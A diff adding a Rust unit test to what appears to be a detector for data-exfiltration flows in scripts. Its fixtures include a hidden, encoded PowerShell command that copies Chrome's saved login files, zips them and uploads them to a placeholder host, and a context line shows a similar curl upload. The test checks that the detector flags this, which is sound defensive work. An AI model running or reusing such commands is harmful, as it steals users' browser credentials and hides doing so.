@@ -561,3 +561,23 @@ fn credential_files_copied_into_a_folder_that_is_archived_and_uploaded_are_a_flo
               tar -czf \"$tmp/p.tgz\" -C \"$tmp\" .\ncurl -s -F \"file=@$tmp/p.tgz\" https://h.invalid/u\n";
     assert!(flows(&[("s.sh", ok)]).is_empty());
 }
+
+#[test]
+fn an_encoded_command_given_to_a_powershell_held_in_a_variable_is_read() {
+    // Browser files copied into a temporary folder in a loop, archived and
+    // uploaded, all inside the encoded command of a hidden Start-Process.
+    let inner = "$u=\"$env:LOCALAPPDATA\\Google\\Chrome\\User Data\";$t=Join-Path $env:TEMP 'x';\
+                 New-Item -ItemType Directory $t|Out-Null;\
+                 foreach($f in 'Local State','Default\\Login Data'){$s=Join-Path $u $f;Copy-Item $s (Join-Path $t 'c')};\
+                 Compress-Archive \"$t\\*\" \"$t.zip\" -Force;\
+                 Invoke-WebRequest -Uri https://h.invalid/u -Method Put -InFile \"$t.zip\"";
+    let ps = format!(
+        "$ps = Join-Path $PSHOME 'powershell.exe'\nStart-Process $ps -WindowStyle Hidden -ArgumentList @(\n  '-NoProfile',\n  '-EncodedCommand', '{}'\n) | Out-Null\n",
+        crate::test_support::encoded_command(inner)
+    );
+    let out = flows(&[("s.ps1", &ps)]);
+    assert_eq!(out.len(), 1, "{out:?}");
+    // The same program given a plain argument list is not read as code.
+    let plain = "$ps = Join-Path $PSHOME 'powershell.exe'\nStart-Process $ps -ArgumentList @('-NoProfile', '-File', 'build.ps1')\n";
+    assert!(flows(&[("s.ps1", plain)]).is_empty());
+}
